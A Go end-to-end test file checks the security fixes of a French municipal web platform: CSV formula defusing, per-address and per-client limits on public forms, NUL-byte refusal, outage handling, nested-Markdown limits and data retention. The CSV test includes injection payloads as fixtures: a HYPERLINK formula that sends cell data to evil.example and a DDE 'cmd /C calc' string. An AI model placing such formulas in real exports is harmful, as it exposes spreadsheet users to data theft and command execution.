package e2e

import (
	"context"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/parvis/parvis/internal/app/core"
	"github.com/parvis/parvis/internal/app/events"
	"github.com/parvis/parvis/internal/app/mailing"
	"github.com/parvis/parvis/internal/app/organisations"
	"github.com/parvis/parvis/internal/model"
	"github.com/parvis/parvis/internal/store"
	"github.com/parvis/parvis/internal/testkit/testserver"
)

// Issue 15 (8): every CSV export defuses cells that a spreadsheet would run
// as formulas, whoever typed them (an agent's display name in the journal,
// a subscriber's address).
func TestCSVExportsDefuseFormulas(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ctx := context.Background()
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		org := ts.Org(t, "bellerive")
		ts.Staff(t, "karim@bellerive.test", "bellerive", model.RoleAdmin)
		evilName := `=HYPERLINK("https://evil.example/?"&A1;"Voir")`
		if _, err := ts.Store.DB().Exec(`UPDATE accounts SET display_name=$1 WHERE email=$2`, evilName, "karim@bellerive.test"); err != nil {
			t.Fatal(err)
		}
		if err := ts.App.Mailing.Subscribe(ctx, mailing.SubscribeInput{OrgID: org.ID, Email: "=1+1@example.test",
			Choices: model.Choices{Everything: true, Newsletter: true}, IP: "192.0.2.7", Lang: "fr", TypoChecked: true}); err != nil {
			t.Fatal(err)
		}
		confirm := ts.Mail.Wait(t, "=1+1@example.test", "Confirmez votre abonnement", 10*time.Second)
		c := ts.Client(t)
		mustStatus(t, "confirm", c.Get(testserver.Link(t, confirm.Text, "/confirmer-abonnement/")), 200)
		ts.LoginAs(t, c, "karim@bellerive.test")
		if r := c.Post("/admin/bellerive/services", url.Values{"name": {"@SUM(1+1)*cmd|' /C calc'!A0"}}); r.Status != 303 {
			t.Fatalf("create service = %d", r.Status)
		}
		for path, want := range map[string][]string{
			"/admin/bellerive/journal.csv":        {`"'=HYPERLINK(""https://evil.example/?""&A1;""Voir"")"`},
			"/admin/bellerive/abonnes/export.csv": {"'=1+1@example.test;"},
		} {
			r := c.Get(path)
			if strings.HasSuffix(path, "export.csv") {
				r = c.Post(path, form("export_purpose", "letter"))
			}
			if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
				t.Fatalf("%s = %d", path, r.Status)
			}
			mustContain(t, path, r.Body, want...)
			for _, line := range strings.Split(r.Body, "\n") {
				for _, cell := range strings.Split(line, ";") {
					cell = strings.TrimPrefix(strings.TrimPrefix(cell, "\ufeff"), `"`)
					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
						t.Errorf("%s: cell %q would run as a formula", path, cell)
					}
				}
			}
		}
	})
}

// Issue 15 (4): the anonymous question form is not a mail cannon. Posts
// in parallel are limited per address and per client, and what reaches an
// address nobody proved is the visitor's carries none of the visitor's
// text: no name, no excerpt, no link.
func TestQuestionFormIsNotAMailCannon(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		org := ts.Org(t, "bellerive")
		ts.Staff(t, "karim@bellerive.test", "bellerive", model.RoleAdmin)
		spam := "Gagnez 1000 euros : https://arnaque.example/clic — offre réservée"
		post := func(c *testserver.Client, email string) int {
			return c.Post("/bellerive/question", form("name", "Service des impôts https://arnaque.example", "email", email, "body", spam)).Status
		}
		// 30 posts, 8 at a time, for one victim's address.
		statuses := make(chan int, 30)
		sem := make(chan struct{}, 8)
		var wg sync.WaitGroup
		for range 30 {
			wg.Add(1)
			sem <- struct{}{}
			go func() {
				defer wg.Done()
				defer func() { <-sem }()
				statuses <- post(ts.Client(t), "victime@example.test")
			}()
		}
		wg.Wait()
		close(statuses)
		counts := map[int]int{}
		for s := range statuses {
			counts[s]++
		}
		if counts[200] != core.FormPerAddress || counts[429] != 30-core.FormPerAddress {
			t.Fatalf("30 parallel posts for one address: %v, want %d accepted and the rest 429", counts, core.FormPerAddress)
		}
		var stored int
		if err := ts.Store.DB().QueryRow(`SELECT COUNT(*) FROM resident_requests WHERE org_id=$1 AND email=$2`, org.ID, "victime@example.test").Scan(&stored); err != nil || stored != core.FormPerAddress {
			t.Fatalf("%d requests stored (%v), want %d", stored, err, core.FormPerAddress)
		}
		// The acknowledgements carry the town's facts, nothing the visitor typed.
		ack := mailTo(t, ts, "victime@example.test", "Accusé de réception", core.FormPerAddress)
		mustContain(t, "neutral acknowledgement", ack.Text, "Bonjour,", "en indiquant cette adresse", "Référence :", "L112-11")
		mustNotContain(t, "neutral acknowledgement", ack.Text+ack.HTML, "arnaque.example", "Gagnez", "impôts")

		// One client, many addresses: the per-client limit holds too.
		c := ts.Client(t)
		accepted := 0
		for i := range core.FormPerClient + 3 {
			if s := post(c, fmt.Sprintf("cible%d@example.test", i)); s == 200 {
				accepted++
			} else if s != 429 {
				t.Fatalf("post %d = %d", i, s)
			}
		}
		// The 30 parallel posts came from this same loopback client: 5 of
		// them counted already.
		if want := core.FormPerClient - core.FormPerAddress; accepted != want {
			t.Fatalf("%d accepted from one client, want %d", accepted, want)
		}
		r := c.Post("/bellerive/question", form("name", "Jeanne", "email", "autre@example.test", "body", "Une vraie question sur le marché ?"))
		mustStatus(t, "over the client limit", r, 429)
		mustContain(t, "over the client limit", r.Body, "Ce formulaire a été envoyé trop de fois")

		// A signed-in resident with a verified address gets the full acknowledgement.
		ts.Clock.Advance(2 * core.FormWindow)
		jeanne := ts.Client(t)
		ts.LoginAs(t, jeanne, "jeanne@example.test")
		mustStatus(t, "verified resident asks", jeanne.Post("/bellerive/question", form("name", "Jeanne Dupont", "email", "jeanne@example.test",
			"body", "Quand le marché rouvrira-t-il ?")), 200)
		full := mailTo(t, ts, "jeanne@example.test", "Accusé de réception", 1)
		mustContain(t, "full acknowledgement", full.Text, "Bonjour Jeanne Dupont,", "Quand le marché rouvrira-t-il ?")
	})
}

// Issue 15 (10): a NUL byte in any text value is refused with 400 and a
// French message on both engines (PostgreSQL answered 500), whether it
// comes in a URL-encoded form, a multipart form, the query or the path,
// and nothing is written.
func TestNULBytesAreRefusedWith400(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		org := ts.Org(t, "bellerive")
		ts.Staff(t, "karim@bellerive.test", "bellerive", model.RoleAdmin)
		c := ts.Client(t)
		r := c.Post("/bellerive/question", form("name", "Jeanne", "email", "jeanne@example.test", "body", "Une question\x00 sur le marché ?"))
		mustStatus(t, "NUL in the question form", r, 400)
		mustContain(t, "NUL in the question form", r.Body, "Caractère non autorisé", "rien n&#39;a été enregistré")
		staff := ts.Client(t)
		ts.LoginAs(t, staff, "karim@bellerive.test")
		r = staff.PostMultipart("/admin/bellerive/publications", url.Values{"kind": {"news"}, "title": {"Travaux\x00 du quai"}, "body": {"Texte."}})
		mustStatus(t, "NUL in a multipart form", r, 400)
		mustStatus(t, "NUL in the query", c.Get("/bellerive/recherche?q=a%00b"), 400)
		mustStatus(t, "NUL in the path", c.Get("/bellerive/p/travaux%00quai"), 400)
		var n int
		if err := ts.Store.DB().QueryRow(`SELECT (SELECT COUNT(*) FROM resident_requests WHERE org_id=$1) + (SELECT COUNT(*) FROM publications WHERE org_id=$1)`, org.ID).Scan(&n); err != nil || n != 0 {
			t.Fatalf("%d rows written (%v), want 0", n, err)
		}
	})
}

// Issue 15 (10): during a database outage pages answer 503 with a French
// "service indisponible" page, and a signed-in person is not sent to /login
// as if signed out.
func TestDatabaseOutageAnswers503(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		ts.Org(t, "bellerive")
		resident := ts.Client(t)
		ts.LoginAs(t, resident, "jeanne@example.test")
		mustStatus(t, "account before the outage", resident.Get("/account"), 200)
		ts.Store.DB().Close()
		r := resident.Get("/account")
		mustStatus(t, "signed in during the outage", r, 503)
		mustContain(t, "signed in during the outage", r.Body, "Service indisponible", "vous restez connecté")
		if r.Header.Get("Retry-After") == "" {
			t.Error("503 without Retry-After")
		}
		r = ts.Client(t).Get("/bellerive/question")
		mustStatus(t, "anonymous during the outage", r, 503)
		mustContain(t, "anonymous during the outage", r.Body, "Service indisponible")
	})
}

// Issue 15 (5): Markdown the parser finds hard (99,990 nested quotes took
// 10 s in the preview; five of them in a .ics blocked every write for 45 s)
// is refused before parsing, with a French message, in the preview, on
// save and in an agenda import, and nothing of the import is saved.
func TestHostileMarkdownIsRefusedBeforeParsing(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		org := ts.Org(t, "bellerive")
		ts.Staff(t, "karim@bellerive.test", "bellerive", model.RoleAdmin)
		staff := ts.Client(t)
		ts.LoginAs(t, staff, "karim@bellerive.test")
		deep := strings.Repeat(">", 99990) + " x"
		r := staff.Post("/admin/bellerive/publications/preview", form("body", deep))
		mustStatus(t, "preview", r, 200)
		mustContain(t, "preview", r.Body, "Le texte imbrique trop de citations ou de listes")
		save := newsForm(newDraftID(t, staff, "bellerive", "news"), "Citations", deep)
		save.Set("op", "save")
		r = postMultipart(t, ts, staff, "/admin/bellerive/publications", save)
		mustStatus(t, "save", r, 422)
		mustContain(t, "save", r.Body, "Le texte imbrique trop de citations ou de listes")

		ics := strings.Replace(agendaICS, "DESCRIPTION:Apprenez", "DESCRIPTION:"+strings.Repeat(">", 99990)+" Apprenez", 1)
		r = postMultipart(t, ts, staff, "/admin/bellerive/events/import", form(), upload{"file", "agenda.ics", []byte(ics)})
		mustStatus(t, "import", r, 422)
		mustContain(t, "import", r.Body, "La description d&#39;un événement est trop complexe", "Atelier nœuds marins")
		if n := countEvents(t, ts, org.ID); n != 0 {
			t.Fatalf("%d events saved from a refused import", n)
		}
	})
}

// Issue 15 (10): what the interface promises to delete is deleted. The
// registration form says the data serve the event only and are deleted 30
// days after it; fed_seen keeps activity ids 14 days. The hourly cleanup
// does both.
func TestRetentionDeletesWhatThePagesPromise(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ctx := context.Background()
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		ts.Clock.Set(eventStart)
		org := ts.Org(t, "bellerive")
		ts.Staff(t, "com@bellerive.test", "bellerive", model.RoleManager)
		staff := ts.Client(t)
		ts.LoginAs(t, staff, "com@bellerive.test")
		createEvent(t, ts, staff, "bellerive", "Balade en bateau", "join_mode", "restricted", "capacity", "20")
		page := ts.Client(t).Get("/bellerive/p/balade-en-bateau")
		mustContain(t, "registration form", page.Body, "sont supprimées 30 jours après")
		marie := ts.Client(t)
		ts.LoginAs(t, marie, "marie@exemple.fr")
		mustStatus(t, "marie registers", marie.Post("/bellerive/p/balade-en-bateau/inscription", form()), 303)
		mustStatus(t, "paul registers", ts.Client(t).Post("/bellerive/p/balade-en-bateau/inscription", form("name", "Paul Martin", "email", "paul@exemple.fr")), 303)
		count := func() (n int) {
			t.Helper()
			if err := ts.Store.DB().QueryRow(`SELECT COUNT(*) FROM event_registrations WHERE org_id=$1`, org.ID).Scan(&n); err != nil {
				t.Fatal(err)
			}
			return n
		}
		if n := count(); n != 2 {
			t.Fatalf("%d registrations, want 2", n)
		}
		end := time.Date(2026, 3, 14, 11, 0, 0, 0, time.UTC) // 12:00 in Paris
		if _, err := ts.Store.MarkSeen(ctx, "https://mastodon.example/activities/ancienne", end); err != nil {
			t.Fatal(err)
		}
		ts.Clock.Set(end.Add(organisations.RegistrationRetention - time.Hour))
		if err := ts.App.Accounts.CleanupExpired(ctx); err != nil {
			t.Fatal(err)
		}
		if n := count(); n != 2 {
			t.Fatalf("%d registrations a day before the retention ends, want 2", n)
		}
		ts.Clock.Set(end.Add(organisations.RegistrationRetention + time.Hour))
		if _, err := ts.Store.MarkSeen(ctx, "https://mastodon.example/activities/recente", ts.Clock.Now()); err != nil {
			t.Fatal(err)
		}
		if err := ts.App.Accounts.CleanupExpired(ctx); err != nil {
			t.Fatal(err)
		}
		if n := count(); n != 0 {
			t.Fatalf("%d registrations kept after the retention, want 0", n)
		}
		var seen []string
		rows, err := ts.Store.DB().Query(`SELECT activity_id FROM fed_seen`)
		if err != nil {
			t.Fatal(err)
		}
		for rows.Next() {
			var s string
			_ = rows.Scan(&s)
			seen = append(seen, s)
		}
		rows.Close()
		if len(seen) != 1 || !strings.HasSuffix(seen[0], "recente") {
			t.Fatalf("fed_seen after the purge = %v, want only the recent id", seen)
		}
	})
}

// Issue 15 (4): the report form of a comment also e-mails an address typed
// in it. A comment's author could report their own spam with someone
// else's address: the acknowledgement to an unproved address quotes no
// comment, and the form is limited per address.
func TestReportFormIsNotAMailCannon(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		org := ts.Org(t, "bellerive")
		publish(t, ts, org, "travaux-quai", "Travaux sur le quai de Loire")
		base := "/bellerive/p/travaux-quai/commentaires"
		spammer := ts.Client(t)
		oldResident(t, ts, spammer, "spammeur@example.test")
		var ids []string
		for i := range core.FormPerAddress + 1 {
			ids = append(ids, postComment(t, spammer, base, fmt.Sprintf("Offre %d : gagnez 1000 euros sur arnaque.example dès aujourd'hui !", i)))
		}
		for i, id := range ids {
			r := ts.Client(t).Post(base+"/"+id+"/signaler", form("reason", "rule-1", "email", "victime@example.test"))
			want := 303
			if i == core.FormPerAddress {
				want = 429
			}
			mustStatus(t, fmt.Sprintf("report %d", i+1), r, want)
		}
		ack := mailTo(t, ts, "victime@example.test", "Signalement reçu", core.FormPerAddress)
		mustNotContain(t, "report acknowledgement", ack.Text+ack.HTML, "arnaque.example", "gagnez")
	})
}

// Issue 15 (4): registering for an event without an account e-mails a link
// to the typed address: limited per client, and the message does not
// greet with the typed name.
func TestEventRegistrationFormIsNotAMailCannon(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		ts.Clock.Set(eventStart)
		ts.Org(t, "bellerive")
		ts.Staff(t, "com@bellerive.test", "bellerive", model.RoleManager)
		staff := ts.Client(t)
		ts.LoginAs(t, staff, "com@bellerive.test")
		createEvent(t, ts, staff, "bellerive", "Balade en bateau", "join_mode", "restricted", "capacity", "100")
		c := ts.Client(t)
		for i := range core.FormPerClient + 1 {
			want := 303
			if i == core.FormPerClient {
				want = 429
			}
			r := c.Post("/bellerive/p/balade-en-bateau/inscription", form("name", "Gagnez 1000 euros sur arnaque.example", "email", fmt.Sprintf("cible%d@example.test", i)))
			mustStatus(t, fmt.Sprintf("registration %d", i+1), r, want)
		}
		m := mailTo(t, ts, "cible0@example.test", "Confirmez votre inscription", 1)
		mustContain(t, "confirmation", m.Text, "Bonjour,")
		mustNotContain(t, "confirmation", m.Text+m.HTML, "arnaque.example", "Gagnez")
	})
}

// Issue 15 (4): the subscription form sends a confirmation to any address
// typed in it; one client cannot make the town mail more than
// FormPerClient addresses an hour ("subscription bombing").
func TestSubscriptionFormIsLimitedPerClient(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		ts.Org(t, "bellerive")
		c := ts.Client(t)
		for i := range core.FormPerClient + 1 {
			want := 303
			if i == core.FormPerClient {
				want = 429
			}
			r := c.Post("/bellerive/suivre", form("email", fmt.Sprintf("cible%d@example.test", i), "newsletter", "1", "scope", "all", "typo_checked", "1"))
			mustStatus(t, fmt.Sprintf("subscription %d", i+1), r, want)
			if want == 429 {
				mustContain(t, "over the limit", r.Body, "Ce formulaire a été envoyé trop de fois")
			}
		}
		var n int
		if err := ts.Store.DB().QueryRow(`SELECT COUNT(*) FROM subscribers`).Scan(&n); err != nil || n != core.FormPerClient {
			t.Fatalf("%d subscribers (%v), want %d", n, err, core.FormPerClient)
		}
	})
}

// Issue 15 (5): a large agenda is written in chunks of events.ImportChunk
// events, each its own transaction, after the whole file was checked: all
// events arrive, counted once, with one journal entry.
func TestLargeAgendaImportIsWrittenInChunks(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		org := ts.Org(t, "bellerive")
		staff := ts.Staff(t, "com@bellerive.test", "bellerive", model.RoleManager)
		n := 2*events.ImportChunk + 7
		res, err := ts.App.Events.ImportEvents(context.Background(), staff.ID, org.ID, events.ImportInput{Source: "agenda.ics", Data: agenda(n, 2, "Atelier ouvert à tous.")})
		if err != nil || res.Created != n {
			t.Fatalf("import = %+v, %v; want %d created", res, err, n)
		}
		if got := countEvents(t, ts, org.ID); got != n {
			t.Fatalf("%d events, want %d", got, n)
		}
		var audits int
		var detail string
		if err := ts.Store.DB().QueryRow(`SELECT COUNT(*), MAX(detail) FROM audit_log WHERE org_id=$1 AND action='event.import'`, org.ID).Scan(&audits, &detail); err != nil || audits != 1 || detail != fmt.Sprintf("created %d, updated 0, unchanged 0", n) {
			t.Fatalf("journal: %d entries %q (%v)", audits, detail, err)
		}
		// A file refused as a whole (one bad event at the end) writes nothing.
		bad := strings.Replace(string(agenda(n, 2, "x")), fmt.Sprintf("UID:ev-%d@bench.example\r\n", n-1), "", 1)
		bad = strings.ReplaceAll(bad, "@bench.example", "@autre.example")
		if _, err := ts.App.Events.ImportEvents(context.Background(), staff.ID, org.ID, events.ImportInput{Source: "bad.ics", Data: []byte(bad)}); err == nil {
			t.Fatal("a file with an event without UID was imported")
		}
		if got := countEvents(t, ts, org.ID); got != n {
			t.Fatalf("%d events after a refused import, want %d", got, n)
		}
	})
}
